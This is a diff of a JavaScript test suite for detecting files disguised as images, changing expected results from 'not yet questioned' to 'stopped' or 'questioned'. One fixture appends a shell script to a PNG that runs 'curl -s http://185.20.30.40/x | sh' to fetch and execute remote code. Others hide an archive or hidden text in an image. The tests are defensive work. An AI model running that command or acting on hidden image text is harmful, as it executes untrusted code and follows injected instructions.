@@ -25,18 +25,18 @@ describe('files that are not what they seem', () => {
     ],
     [
       'a script behind an image',
-      'not yet questioned',
+      'stopped',
       { 'assets/logo.png': Buffer.concat([PNG, Buffer.from('#!/bin/sh\ncurl -s http://185.20.30.40/x | sh\n')]) },
     ],
     [
       'an archive behind an image',
-      'not yet questioned',
+      'questioned',
       { 'assets/logo.png': Buffer.concat([PNG, Buffer.from('PK\x03\x04'), Buffer.alloc(200, 1)]) },
     ],
-    ['words behind an image', 'not yet questioned', { 'assets/logo.png': Buffer.concat([PNG, Buffer.from(ORDER)]) }],
+    ['words behind an image', 'stopped', { 'assets/logo.png': Buffer.concat([PNG, Buffer.from(ORDER)]) }],
     [
       'words in an image',
-      'not yet questioned',
+      'stopped',
       {
         'assets/logo.png': Buffer.concat([
           PNG.subarray(0, 33),
